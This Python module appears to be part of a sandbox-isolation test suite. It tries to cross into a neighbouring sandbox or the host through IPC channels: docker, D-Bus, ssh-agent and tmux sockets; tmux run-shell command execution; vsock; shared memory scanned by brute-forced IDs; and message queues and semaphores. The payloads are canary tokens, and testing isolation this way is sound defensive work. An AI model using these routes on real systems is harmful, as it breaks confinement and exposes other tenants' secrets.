"""Attacks on other ways to talk: sockets of daemons, shared memory, queues, of the host and of a neighbouring sandbox.
NEAR says where a neighbour of the same user listens (neighbour.py); what arrives there it writes down."""

import ctypes, os, socket, struct, sys, time
from attack import *


def say(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        s.connect(address)
        s.sendall(TOKEN.encode())
        time.sleep(0.1)


@attack("arrived")
def daemon_sockets():
    """Escape list 27, 28, 30: docker, D-Bus, ssh-agent and tmux are sockets in /run, /tmp and at home."""
    each([lambda p=p: say(socket.AF_UNIX, p) for p in NEAR["sockets"]])
    each([lambda p=p: say(socket.AF_UNIX, f"/proc/{TARGET}/root{p}") for p in NEAR["sockets"]])


@attack("arrived")
def daemon_datagrams():
    """The same for a logger's datagram socket."""
    say(socket.AF_UNIX, NEAR["datagram"], socket.SOCK_DGRAM)


@attack("arrived")
def abstract_sockets():
    """Escape list 29: X11 and D-Bus listen at names that no folder holds."""
    names = {NEAR["abstract"]}
    each([lambda: names.update(line.split("@", 1)[1].strip() for line in open("/proc/net/unix") if "@" in line)])
    each([lambda n=n: say(socket.AF_UNIX, "\0" + n) for n in names if n == NEAR["abstract"]])
    each([lambda: say(socket.AF_UNIX, "\0" + NEAR["abstract"] + "-d", socket.SOCK_DGRAM)])


@attack("executed-near")
def tmux_server():
    """Escape list 30: a tmux server runs what its clients say."""
    sh(f"tmux -S {NEAR['tmux']} run-shell 'echo {TOKEN} >> {NEAR['arrived']}'; sleep 0.2")


@attack("proved")
def virtual_sockets():
    """Escape list 31: vsock passes by every network namespace."""
    socket.socket(40, socket.SOCK_STREAM)
    proved()


@attack("secret")
def shared_memory():
    """Escape list 32: System V segments, by key and by number."""
    LIBC.shmat.restype = ctypes.c_void_p
    numbers = [NEAR["shm"], *range(0, 32)]
    each([lambda: numbers.append(call(29, NEAR["shm_key"], 0, 0))])
    for number in numbers:
        at = LIBC.shmat(number, None, 0o10000)
        if at not in (None, ctypes.c_void_p(-1).value):
            print(ctypes.string_at(at, 64))
            LIBC.shmdt(ctypes.c_void_p(at))
    each([lambda: print(open("/proc/sysvipc/shm").read())])


@attack("secret")
def shared_memory_files():
    """Escape list 32: /dev/shm of the host."""
    each([lambda: shown("/dev/shm/" + NEAR["posix"]), lambda: shown(f"/proc/{TARGET}/root/dev/shm/" + NEAR["posix"])])


@attack("secret")
def message_queue():
    """Own: a System V queue, copied from without taking away."""
    buffer = ctypes.create_string_buffer(256)
    for number in [NEAR["queue"], *range(0, 32)]:
        # IPC_NOWAIT | MSG_COPY | MSG_NOERROR
        each([lambda: call(70, number, buffer, 200, 0, 0o4000 | 0o40000 | 0o10000)])
        print(buffer.raw)


@attack("arrived")
def message_queue_written():
    """Own: the same, the other way round."""
    message = ctypes.create_string_buffer(struct.pack("q", 7) + TOKEN.encode())
    each([lambda n=n: call(69, n, message, len(TOKEN), 0o4000) for n in (NEAR["queue_in"],)])
    time.sleep(0.3)


@attack("secret")
def posix_queue():
    """Own: a POSIX queue is a name too, in a file system nobody sees."""
    fd = call(240, text(NEAR["mq"]), os.O_RDWR | os.O_NONBLOCK, 0, 0)
    buffer = ctypes.create_string_buffer(8192)
    each([lambda: call(243, fd, buffer, 8192, 0, 0)])
    print(buffer.value)
    # Put back for the next.
    call(242, fd, buffer, len(buffer.value), 0, 0)


@attack("semaphore")
def semaphores():
    """Own: a System V semaphore of the host, raised."""
    step = ctypes.create_string_buffer(struct.pack("HhH", 0, 1, 0o4000))
    each([lambda: call(65, NEAR["semaphore"], step, 1)])


@attack("arrived", mode="ReadOnly", stage="work-socket")
def workspace_socket_read_only():
    """Own: a daemon's socket in a workspace that is only read."""
    say(socket.AF_UNIX, WORK + "/daemon.sock")
